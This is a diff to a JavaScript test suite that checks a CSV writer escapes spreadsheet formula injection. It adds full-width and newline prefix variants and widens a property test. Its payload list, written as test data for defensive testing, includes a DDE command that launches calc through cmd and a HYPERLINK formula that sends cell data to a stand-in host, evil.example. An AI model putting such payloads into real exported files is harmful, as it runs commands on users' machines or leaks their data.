@@ -20,6 +20,11 @@ describe('a CSV file [S-088, Q-022]', () => {
     '@SUM(A1)',
     '\t=1+1',
     '\r=1+1',
+    '\n=1+1',
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠SUM(A1)',
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://evil.example?x="&A1,"click")',
     '@import',
@@ -46,14 +51,17 @@ describe('a CSV file [S-088, Q-022]', () => {
 
   it('gives back whatever was put in, row by row', () => {
     const rows = fc.array(
-      fc.array(fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n",;\'ab ש🩰') }), { minLength: 1, maxLength: 4 }),
+      fc.array(fc.string({ unit: fc.constantFrom(...'=+-@＝＋－＠\t\r\n",;\'ab ש🩰') }), {
+        minLength: 1,
+        maxLength: 4,
+      }),
       { maxLength: 5 },
     );
     fc.assert(
       fc.property(rows, (table) => {
         const back = parse(toCsv(table));
         expect(back).toEqual(
-          table.map((row) => row.map((value) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value))),
+          table.map((row) => row.map((value) => (/^[=+\-@＝＋－＠\t\r\n]/.test(value) ? `'${value}` : value))),
         );
       }),
     );
